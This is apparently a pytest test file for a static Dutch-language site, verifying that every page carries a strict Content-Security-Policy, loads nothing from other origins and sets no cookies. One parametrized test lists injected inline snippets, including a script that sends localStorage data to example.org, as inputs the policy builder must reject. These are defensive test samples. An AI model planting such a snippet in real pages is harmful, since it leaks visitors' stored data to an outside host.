"""Privacy promises: no page loads anything from another origin, the CSP blocks nothing
that the site itself needs, and no cookies are set."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from helpers import PAGE_KINDS, page_paths
from sitebuild.finish import csp, theme

# Records every CSP violation the page reports, from before any page script runs.
WATCH_CSP = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__cspViolations.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline'));
});
"""


def test_every_page_carries_a_policy_that_allows_only_this_origin(site_dir: Path) -> None:
    for html in site_dir.rglob("*.html"):
        meta = BeautifulSoup(html.read_text(encoding="utf-8"), "lxml").find(
            "meta", attrs={"http-equiv": "Content-Security-Policy"}
        )
        assert meta is not None, html
        policy = meta["content"]
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, html
        # Search's WebAssembly runs in its worker, under no page policy (sitebuild/finish/csp.py).
        assert "wasm-unsafe-eval" not in policy and "worker-src 'self'" in policy, html
        assert "http" not in policy and "*" not in policy, html
        for directive in ("default-src 'self'", "script-src 'self'", "style-src 'self'", "connect-src 'self'"):
            assert directive in policy, (html, directive)


OWN_SCRIPT = theme.own_script("early.js")  # overrides/main.html, filled in by the finish stage


def test_policy_hashes_only_the_inline_scripts_the_site_ships() -> None:
    page = (f"<script>{OWN_SCRIPT}</script><script type=\"application/json\">{{}}</script>"
            '<script src="x.js"></script>')
    assert csp.inline_script_hashes(page) == [csp._sha256(OWN_SCRIPT)]
    assert "sha256-" not in csp.policy("<p>geen scripts</p>").split("style-src")[0]


@pytest.mark.parametrize("smuggled", [
    "<script>fetch('https://example.org/?'+localStorage.getItem('x'))</script>",
    "<script>location='https://example.org'</script>",
    "<style>body{background:url(https://example.org/x)}</style>",
])
def test_policy_never_trusts_an_inline_script_or_style_it_does_not_know(smuggled: str) -> None:
    with pytest.raises(csp.FinishError, match="methoden/x.md"):
        csp.policy(f"<script>{OWN_SCRIPT}</script><article>{smuggled}</article>", "methoden/x.md")


def test_material_scripts_are_known_whatever_the_page_depth(site_dir: Path) -> None:
    # The same Material script differs per page only in the site URL; every built page passed the check.
    for rel in ("index.html", "methoden/basismodel/index.html", "404.html"):
        bodies = csp.executed_inline_scripts((site_dir / rel).read_text(encoding="utf-8"))
        assert len(bodies) >= 3 and all(csp.is_known(body) for body in bodies), rel


# What makes a browser fetch something on its own, by element: the attributes that hold an address.
FETCHED = {"script": ["src"], "link": ["href"], "img": ["src", "srcset"], "source": ["src", "srcset"],
           "iframe": ["src"], "video": ["src", "poster"], "audio": ["src"], "embed": ["src"], "object": ["data"],
           "track": ["src"], "image": ["href"], "use": ["href"]}
# <link rel="canonical"> names the published address for search engines; no browser fetches it.
NOT_FETCHED_LINKS = {"canonical"}


def test_no_page_or_stylesheet_names_another_origin_for_the_browser_to_fetch(site_dir: Path) -> None:
    """Every page's HTML, statically: only addresses of the site itself (relative, or data: for icons)."""
    foreign: list[str] = []
    for html in sorted(site_dir.rglob("*.html")):
        soup = BeautifulSoup(html.read_text(encoding="utf-8"), "lxml")
        for tag, attributes in FETCHED.items():
            for element in soup.find_all(tag):
                if tag == "link" and NOT_FETCHED_LINKS & set(element.get("rel") or []):
                    continue
                for attribute in attributes:
                    for address in (element.get(attribute) or "").replace(",", " ").split():
                        if urlsplit(address).netloc:
                            foreign.append(f"{html.relative_to(site_dir)}: <{tag} {attribute}={address}>")
    for css in sorted(site_dir.rglob("*.css")):
        for address in re.findall(r"(?:url\(|@import\s+)[\"']?([^\"')\s]+)", css.read_text(encoding="utf-8")):
            if not address.startswith("data:") and urlsplit(address).netloc:
                foreign.append(f"{css.relative_to(site_dir)}: {address}")
    assert foreign == []


# Besides one page of each kind, the pages with something of their own: the online chapter, a second
# method page, the example agenda (its page and in the timer), the second form, the erase buttons, the print page, the 404 page.
SWEPT = [*PAGE_KINDS.values(), "handboek/online-en-hybride/", "methoden/vissenkom/", "timer/?agenda=voorbeeld",
         "bijlagen/reflectieformulier/", "bijlagen/voorbeeldagenda/", "privacy/", "afdrukken/", "404.html"]


def test_no_page_kind_requests_another_origin_or_violates_the_policy(context, site_dir: Path,
                                                                      base_url: str) -> None:
    own = urlsplit(base_url).netloc
    foreign: list[str] = []
    context.on("request", lambda req: foreign.append(req.url) if urlsplit(req.url).netloc not in (own, "") else None)
    context.add_init_script(WATCH_CSP)
    page = context.new_page()
    violations: dict[str, list[str]] = {}
    built = set(page_paths(site_dir)) | {"404.html"}
    for path in SWEPT:
        assert path.split("?")[0] in built, path
        page.goto(path, wait_until="load")
        found = page.evaluate("window.__cspViolations")
        if found:
            violations[path] = found
    assert foreign == [], f"requests to other origins: {sorted(set(foreign))[:10]}"
    assert violations == {}, violations
    assert context.cookies() == []


@pytest.mark.search
def test_searching_violates_no_policy(context) -> None:
    """Search loads pagefind.js, starts its worker and runs WebAssembly there: all within the policy
    (a blocked engine would fall back to the page and show up here as a violation)."""
    from helpers import SEARCH_ABOUT, SEARCH_TOP, search_results

    context.add_init_script(WATCH_CSP)
    page = context.new_page()
    page.goto("kiezen/", wait_until="load")
    assert SEARCH_ABOUT["valkuil"] in search_results(page, "valkuil")[:SEARCH_TOP]
    assert page.evaluate("window.__cspViolations") == []
